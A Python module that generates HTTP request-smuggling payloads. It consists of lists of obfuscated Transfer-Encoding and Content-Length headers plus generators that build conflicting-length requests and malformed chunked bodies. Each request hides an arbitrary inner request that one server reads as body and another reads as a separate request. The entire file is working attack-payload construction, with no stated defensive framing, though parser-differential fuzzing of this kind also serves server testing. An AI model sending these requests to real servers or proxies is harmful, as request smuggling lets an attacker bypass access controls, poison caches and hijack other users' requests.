"""Ways to say, badly, where a request ends.

Each is a request for a free page whose body holds, or seems to hold, another request: `inner`. Who reads the length in one
way sees a body, who reads it in another sees `inner` as a request of its own.
"""

from collections.abc import Iterator
from dataclasses import dataclass

CODINGS = [
    b"Transfer-Encoding: chunked", b"Transfer-Encoding:chunked", b"Transfer-Encoding:\tchunked", b"Transfer-Encoding: chunked ",
    b"Transfer-Encoding: Chunked", b"TRANSFER-ENCODING: CHUNKED", b"Transfer-Encoding: chunked,", b"Transfer-Encoding: ,chunked",
    b"Transfer-Encoding: chunked, identity", b"Transfer-Encoding: identity, chunked", b"Transfer-Encoding: gzip, chunked",
    b"Transfer-Encoding: chunked, chunked", b"Transfer-Encoding: xchunked", b"Transfer-Encoding: chunkedx",
    b"Transfer-Encoding: chunked;x=y",
    b"Transfer-Encoding: x, chunked", b'Transfer-Encoding: "chunked"', b"Transfer-Encoding: 'chunked'",
    b"Transfer-Encoding: \x0bchunked",
    b"Transfer-Encoding: chunked\x0b", b"Transfer-Encoding: chunked\x0c", b"Transfer-Encoding: \0chunked",
    b"Transfer-Encoding: chunked\0",
    b"Transfer-Encoding: chu\0nked", b"Transfer-Encoding: chun ked", b"Transfer-Encoding: \xffchunked",
    b"Transfer-Encoding: chunked\xa0",
    b"Transfer-Encoding : chunked", b"Transfer-Encoding\t: chunked", b" Transfer-Encoding: chunked",
    b"\tTransfer-Encoding: chunked",
    b"Transfer_Encoding: chunked", b"Transfer.Encoding: chunked", b"Transfer Encoding: chunked", b"Transfer-Encoding\0: chunked",
    b"Transfer-Encoding\x0b: chunked", b"\0Transfer-Encoding: chunked", b"Transfer-Encoding:\r\n chunked",
    b"Transfer-Encoding:\r\n\tchunked",
    b"Transfer-Encoding:\n chunked", b"Transfer-Encoding\r\n: chunked", b"X: y\nTransfer-Encoding: chunked",
    b"X: y\rTransfer-Encoding: chunked",
    b"X: y\r\n Transfer-Encoding: chunked", b"Transfer-Encoding: chunked\nX: y", b"Transfer-Encoding: chunked\rX: y",
    b"Transfer-Encoding: chunked\r\nTransfer-Encoding: identity", b"Transfer-Encoding: identity\r\nTransfer-Encoding: chunked",
    b"Transfer-Encoding: x\r\nTransfer-Encoding: chunked", b"Transfer-Encoding: chunked\r\nTransfer-encoding: chunked",
    b"Transfer-Encoding:\r\nTransfer-Encoding: chunked", b"TE: chunked", b"Content-Encoding: chunked",
    b"Transfer-Encoding: identity",
    b"Transfer-Encoding:", b"Transfer-Encoding: chunked\r\nConnection: Transfer-Encoding", b"Transfer-Encoding: \xc3\xa7hunked",
    b"Connection: transfer-encoding, close\r\nTransfer-Encoding: chunked", b"Transfer\xadEncoding: chunked",
    b"Transfer-Encoding;: chunked",
    b"Trailer: x\r\nTransfer-Encoding: chunked", b"Transfer-Encoding: chunked\r\nExpect: 100-continue",
]  # fmt: skip
LENGTHS = [
    b"Content-Length: %d", b"Content-Length:%d", b"Content-Length: +%d", b"Content-Length: -%d", b"Content-Length: 0x%x",
    b"Content-Length: 0%d",
    b"Content-Length: %d, %d", b"Content-Length: %d,0", b"Content-Length: 0,%d", b"Content-Length: 0, %d",
    b"Content-Length: %d;x", b"Content-Length: %d.0",
    b"Content-Length: %d ", b"Content-Length: \t%d", b"Content-Length: %de0", b"Content-Length: \x0b%d",
    b"Content-Length: %d\x0b", b"Content-Length: \0%d",
    b"Content-Length: %d\0", b"Content-Length: %d x", b"Content-Length: x %d", b'Content-Length: "%d"', b"Content-Length: %d_",
    b"Content-Length: 0_%d",
    b"Content-Length: 0\r\nContent-Length: %d", b"Content-Length: %d\r\nContent-Length: 0",
    b"Content-Length: %d\r\nContent-Length: %d",
    b"Content-Length:\r\nContent-Length: %d", b"Content-Length: \r\n %d", b"Content-Length:\r\n %d", b"Content-Length : %d",
    b"Content-Length\t: %d",
    b" Content-Length: %d", b"Content_Length: %d", b"Content.Length: %d", b"Content-Length\0: %d", b"\0Content-Length: %d",
    b"X: y\nContent-Length: %d",
    b"X: y\rContent-Length: %d", b"X: y\r\n Content-Length: %d", b"Content-Length: %d\nX: y",
    b"Connection: Content-Length\r\nContent-Length: %d",
    b"Connection: close, content-length\r\nContent-Length: %d", b"Connection: keep-alive,\tCONTENT-LENGTH\r\nContent-Length: %d",
    b"Content-Length: 18446744073709551616%d", b"Content-Length: 4294967296", b"Content-Length: \xd9\xa3%d",
    b"Content-Length: %d\xa0", b"content-length: %d",
    b"Content-Length: %d\r\nExpect: 100-continue", b"Expect: 100-continue\r\nContent-Length: %d",
    b"Content-Length: %d\r\nExpect: y 100-continue",
    b"Content-Length: %d\r\nExpect: 100-Continue, x", b"Content-Length: %d\r\nExpect:\r\n 100-continue",
    b"Content-Length: %d\r\nUpgrade: x",
    b"Content-Length: %d\r\nUpgrade: websocket\r\nConnection: Upgrade", b"Content-Length: %d\r\nTE: trailers",
    b"Keep-Alive: x\r\nContent-Length: %d",
]  # fmt: skip


@dataclass(frozen=True)
class Framed:
    """A request with a body that can be read in two ways."""

    name: str
    data: bytes


def ambiguous(target: bytes, host: bytes, inner: bytes) -> Iterator[Framed]:
    """All of them."""
    for method, version in ((b"POST", b"HTTP/1.1"), (b"GET", b"HTTP/1.1"), (b"POST", b"HTTP/1.0")):
        line = method + b" " + target + b" " + version + b"\r\nHost: " + host + b"\r\n"
        name = f"{method.decode()} {version.decode()}"
        for coding in CODINGS:
            yield from _both(name, line, coding, inner)
        for length in LENGTHS:
            field = length.replace(b"%d", b"%d" % len(inner)).replace(b"%x", b"%x" % len(inner))
            yield Framed(f"{name} {length!r}", line + field + b"\r\n\r\n" + inner)
        yield Framed(f"{name} without a length", line + b"\r\n" + inner)
        for body in _chunks(inner):
            yield Framed(f"{name} chunks {body[:40]!r}", line + b"Transfer-Encoding: chunked\r\n\r\n" + body)


def _both(name: str, line: bytes, coding: bytes, inner: bytes) -> Iterator[Framed]:
    # Chunks end before `inner`, the length is behind it.
    body = b"0\r\n\r\n" + inner
    # Chunks hold `inner`, the length ends before it.
    size = b"%x\r\n" % len(inner)
    chunked = size + inner + b"\r\n0\r\n\r\n"
    for first in (True, False):
        for kind, length, content in (("length over chunks", len(body), body), ("chunks over length", len(size), chunked)):
            field = b"Content-Length: %d" % length
            fields = [field, coding] if first else [coding, field]
            yield Framed(f"{name} {kind}, {fields!r}", line + b"\r\n".join(fields) + b"\r\n\r\n" + content)
    yield Framed(f"{name} {coding!r} alone, ends before", line + coding + b"\r\n\r\n" + body)
    yield Framed(f"{name} {coding!r} alone, holds it", line + coding + b"\r\n\r\n" + chunked)


def _chunks(inner: bytes) -> Iterator[bytes]:
    """Bodies in chunks that are written badly."""
    size, end = b"%x" % len(inner), b"\r\n0\r\n\r\n"
    for before in (
        b"0x",
        b"+",
        b"-",
        b" ",
        b"\t",
        b"0000000000000000",
        b"1",
        b"\x0b",
        b"\0",
        b"\n",
        b"\r\n",
        b"1000000000000000",
        b"10000000000000000",
        b"0;",
        b'"',
    ):
        yield before + size + b"\r\n" + inner + end
    for behind in (
        b" ",
        b"\t",
        b";",
        b";x",
        b";x=y",
        b';x="y',
        b";\n",
        b";x\n",
        b"\n",
        b"\r",
        b"\0",
        b"\x0b",
        b" x",
        b"_",
        b"h",
        b".0",
        b";x\r",
        b";\0",
        b";" + b"x" * 5000,
        b"\xa0",
    ):
        yield size + behind + b"\r\n" + inner + end
    for zero in (b"0\r\n\r\n", b"0\n\n", b"0\r\n\n", b"0\n\r\n", b"00\r\n\r\n", b"0;\r\n\r\n", b"0;x\r\n\r\n", b"0 \r\n\r\n",
        b"0\r\r\n\r\n", b"0\r\nX: y\r\n\r\n", b"0\r\nX: y\n\r\n",
                 b"0\r\nX: y\n\n", b"0\r\n: \r\n\r\n", b"0\r\nX\r\n\r\n", b"0\r\n X: y\r\n\r\n",
                 b"0\r\nContent-Length: 5\r\n\r\n", b"0\r\nTransfer-Encoding: chunked\r\n\r\n",
                 b"0x0\r\n\r\n", b"-0\r\n\r\n", b"+0\r\n\r\n", b"0_\r\n\r\n", b"0;\n\r\n\r\n", b"0;x\n\r\n", b"\r\n\r\n",
                 b"x\r\n\r\n", b"g\r\n\r\n", b"10000000000000000\r\n\r\n"):  # fmt: skip
        yield zero + inner
    # The line break behind a chunk's data is missing, or is something else.
    for behind in (b"", b"\n", b"\r", b"XX", b"\n\n", b"\r\r\n", b"XX\r\n"):
        yield b"1\r\nx" + behind + b"0\r\n\r\n" + inner
        yield b"1\r\nx" + behind + size + b"\r\n" + inner + end
    # What one server takes for an extension's end is another's line (an extension with a line feed in it).
    yield b"2;\nxx\r\n" + size + b"\r\n0\r\n\r\n" + inner
    yield b"5;x=\n\r\n0\r\n\r\n" + inner
    yield b"0\r\n" + inner
    yield b"1\r\nx\r\n0\r\n" + inner
